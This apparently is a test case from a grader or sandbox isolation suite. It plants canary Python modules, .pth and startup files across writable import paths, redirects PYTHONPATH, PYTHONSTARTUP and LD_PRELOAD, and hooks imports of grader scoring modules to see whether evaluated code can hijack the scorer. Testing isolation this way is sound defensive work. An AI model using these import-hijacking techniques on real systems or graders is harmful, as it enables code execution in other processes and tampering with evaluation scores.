# attack: forging-imports  expect: scored=honest  alone: slot_error
"""Plants modules that other processes would import instead of the true ones, and hooks every import of its
own.

What is planted says so when it runs anywhere but here.
"""

import importlib.abc
import os
import sys
import sysconfig

PLANTED = f"""import os
if os.getpid() != {os.getpid()}:
    try:
        open({TARGETS["canary_folder"]!r} + "/planted", "w").close()
    except OSError:
        pass
    os.write(1, b"REACHED" + b" planted code ran in another process\\n")
"""
VERSION = f"python{sys.version_info.major}.{sys.version_info.minor}"
NAMES = "sitecustomize.py usercustomize.py planted.pth grader.py sklearn.py papermill.py json.py".split()
NAMES += "torch/__init__.py numpy/__init__.py grader/__init__.py grader/sandbox/inside/wire.py startup.py libx.so".split()
PLACES = ". ~ /tmp /dev/shm ~/.ipython/profile_default/startup ~/.config/matplotlib ~/.jupyter".split()
PLACES += [f"~/.local/lib/{VERSION}/site-packages", f"/tmp/lib/{VERSION}", "/tmp/grader"]
for place in map(os.path.expanduser, PLACES):
    for name in NAMES:
        os.makedirs(os.path.dirname(f"{place}/{name}"), exist_ok=True)
        with open(f"{place}/{name}", "w") as file:
            file.write(f"import os; exec({PLANTED!r})\n")
for place in {*sys.path, *sysconfig.get_paths().values(), "/etc", "/run/slot", "/usr/lib", "/usr/local/lib"}:
    if os.path.isdir(place) and not os.path.realpath(place).startswith(("/tmp", "/dev/shm")):
        try:
            os.close(os.open(f"{place}/planted", os.O_CREAT | os.O_EXCL, 0o600))
            os.unlink(f"{place}/planted")
            reached(f"a folder that others import from and this can write: {place}")
        except OSError:
            pass
os.environ |= {"PYTHONPATH": "/tmp:/dev/shm", "PYTHONSTARTUP": "/tmp/startup.py", "PYTHONHOME": "/tmp"}
os.environ |= {"IPYTHONDIR": "/tmp/.ipython", "GRADER_SLOT": "{}", "LD_PRELOAD": "/tmp/libx.so"}


class Hijacker(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("grader.trainer", "grader.task.scoring", "papermill", "ipykernel", "nbclient")):
            reached(f"an import of {name} in this process")
        return None


sys.meta_path.insert(0, Hijacker())


def attack(honest, *arguments):
    return honest(*arguments)
